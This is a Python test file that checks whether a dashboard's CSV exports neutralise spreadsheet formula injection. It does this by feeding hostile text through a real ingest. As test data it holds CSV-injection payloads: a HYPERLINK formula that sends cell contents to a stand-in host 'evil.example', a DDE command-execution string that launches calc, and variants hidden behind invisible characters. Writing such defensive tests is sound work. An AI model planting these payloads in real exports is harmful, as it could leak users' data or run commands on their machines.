"""Every CSV export, fed hostile text through a real ingest: BOM first, no cell a formula.

Issue 20: `district` and `street` (free text on the stream) left the desk export as
`=HYPERLINK(…)`; the bulletin wrote district codes raw; the after-action report and
the audit trail defused only a formula sign in the very first character.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from flask.testing import FlaskClient

from dashboard.app import App, create_app
from dashboard.domain.access import Role
from dashboard.settings import Settings
from dashboard.store import afteraction
from dashboard.web import csvout
from streams.producer import Producer, new_event
from tests import webclients
from tests.stories import story
from tests.test_ingest import drain, make_ingest

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = (LINK, "+cmd|' /C calc'!A0", "\u200b=1+1", "\ufeff@SUM(A1)", "  -2+3")
# Independent of the code under test: what a spreadsheet skips before a formula sign.
SKIPPED = " \u00a0\u3000\u200b\u200c\u200d\u2060\ufeff\u200e\u200f\n"
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def runs_as_formula(cell: str) -> bool:
    """Whether Excel or LibreOffice could run this cell as a formula."""
    if cell.startswith("'") or NUMBER.fullmatch(cell):
        return False
    if cell[:1] in ("\t", "\r"):
        return True
    return cell.lstrip(SKIPPED)[:1] in ("=", "+", "-", "@")


def hostile_events(now: datetime) -> list[dict]:
    """A forced emergency, cases in it with hostile text in every free field, its end."""
    events = [new_event("emergency.raised", at=now - timedelta(hours=2), hazard="typhoon",
                        level="red", force=True, by=LINK, note=HOSTILE[2])]  # fmt: skip
    for n, text in enumerate(HOSTILE):
        events += story(f"H{n}", now - timedelta(hours=1), "sanitation", district=text,
                        street=text, address=text, description=text, emergency=True)  # fmt: skip
    events.append(new_event("emergency.cleared", at=now - timedelta(minutes=5), by=HOSTILE[3],
                            note=HOSTILE[1]))  # fmt: skip
    return events


@pytest.fixture
def app(settings: Settings, engine, redis_client) -> Iterator[App]:
    """The app after a real ingest of the hostile events (and hostile sign-in names)."""
    built = create_app(settings, engine=engine, redis_url=settings.redis_url)
    Producer(redis_client, settings.stream_key).publish_many(hostile_events(datetime.now(UTC)))
    drain(make_ingest(redis_client, built.store, settings, "exports"))
    for name in HOSTILE:
        webclients.client_of(built).post("/login", data={"username": name, "password": "x"})
    yield built


@pytest.fixture
def admin(app: App) -> FlaskClient:
    """An administrator: reads every export."""
    return webclients.signed_in(app, "root", Role.ADMIN)


def read_csv(client: FlaskClient, path: str) -> list[list[str]]:
    """An export's rows, after checking it answers 200 with a BOM first."""
    response = client.get(path)
    assert response.status_code == 200, path
    body = response.get_data()
    assert body.startswith("\ufeff".encode()), path
    return list(csv.reader(io.StringIO(body.decode("utf-8").removeprefix("\ufeff"))))


def formulas(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run."""
    return [cell for row in rows for cell in row if runs_as_formula(cell)]


def period_id(app: App) -> int:
    """The id of the (only) emergency period."""
    with app.store.sessions() as db:
        return int(afteraction.periods(db)[0]["id"])


def test_the_desk_export_defuses_every_free_text_column(admin: FlaskClient) -> None:
    """Address and description from the stream arrive as text (an unknown district or
    street is not kept at all: the case is placed by its position)."""
    rows = read_csv(admin, "/api/desk/export.csv")
    assert formulas(rows) == []
    header = rows[0]
    address = {row[0]: row[header.index("address")] for row in rows[1:]}
    assert address["H0"] == "'" + LINK and address["H2"] == "'\u200b=1+1"


def test_the_bulletin_csv_defuses_district_codes_from_the_stream(
    app: App, admin: FlaskClient
) -> None:
    """This month's bulletin: no cell of it runs, whatever the stream named a district."""
    month = datetime.now(ZoneInfo(app.timezone)).strftime("%Y-%m")
    assert formulas(read_csv(admin, f"/tablet/bulletin.csv?month={month}")) == []


def test_the_after_action_csv_defuses_names_and_notes(app: App, admin: FlaskClient) -> None:
    """Who raised and cleared it and both notes arrive as text."""
    rows = read_csv(admin, f"/api/emergencies/{period_id(app)}.csv")
    assert formulas(rows) == []
    header = dict(row for row in rows[:9] if len(row) == 2)
    assert header["note/说明"] == "'\u200b=1+1"


def test_the_audit_csv_defuses_every_cell(admin: FlaskClient) -> None:
    """Hostile user names and stream actors in the audit trail arrive as text."""
    rows = read_csv(admin, "/admin/audit.csv")
    assert formulas(rows) == []
    assert "'\ufeff@SUM(A1)" in [row[1] for row in rows]


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=1+1", "'=1+1"), ("+a", "'+a"), ("-b", "'-b"), ("@c", "'@c"), ("\tx", "'\tx"),
     ("\r=1", "'\r=1"), (" \u200b\u2060=1", "' \u200b\u2060=1"), ("\u3000＝1", "'\u3000＝1"),
     ("ok", "ok"), ("a=b", "a=b"), (-3, -3), (2.5, 2.5), (None, None)],
)  # fmt: skip
def test_a_cell_that_could_run_gains_an_apostrophe_and_numbers_stay(
    cell: object, written: object
) -> None:
    """Formula signs after invisible lead-ins are defused; numbers and plain text stay."""
    assert csvout.defuse(cell) == written


def test_an_export_without_rows_is_still_a_bom() -> None:
    """Excel reads an empty export as UTF-8 too."""
    assert csvout.text([]) == "\ufeff"
